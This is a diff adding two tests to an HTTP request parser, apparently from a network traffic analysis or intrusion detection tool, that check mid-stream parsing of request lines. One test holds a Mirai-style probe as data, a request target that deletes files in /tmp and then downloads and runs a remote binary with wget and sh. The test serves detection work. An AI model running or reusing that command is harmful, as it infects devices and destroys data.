@@ -144,6 +144,21 @@ def test_mid_stream_pickup_waits_for_a_line_with_a_version() -> None:
     ]
 
 
+def test_mid_stream_pickup_believes_a_versioned_line_with_spaces_in_its_target() -> None:
+    # A Mirai-style probe, seen mid-stream in a one-sided ERSPAN mirror
+    # (suricata-verify/sv-erspan2-http.pcap): the attack is the request line itself.
+    line = b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://203.0.113.7/arm;sh+/tmp/arm HTTP/1.1"
+    events = parse_midstream(line + b"\r\nHost: 127.0.0.1:80\r\n\r\n")
+    assert [(e.target, e.anomalies) for e in events if isinstance(e, HttpRequest)] == [
+        ("/shell?cd+/tmp;rm+-rf+*;wget+ http://203.0.113.7/arm;sh+/tmp/arm", ("space_in_target",))
+    ]
+
+
+def test_mid_stream_pickup_still_refuses_a_line_with_a_broken_version() -> None:
+    events = parse_midstream(b"GET / HTTP/1.\r\n\r\n")
+    assert not [e for e in events if isinstance(e, HttpRequest)]
+
+
 def parse_midstream(data: bytes) -> list[HttpRequest | Anomaly]:
     parser = HttpRequestParser(FLOW, midstream=True)
     parser.receive_data(data, 0.0)
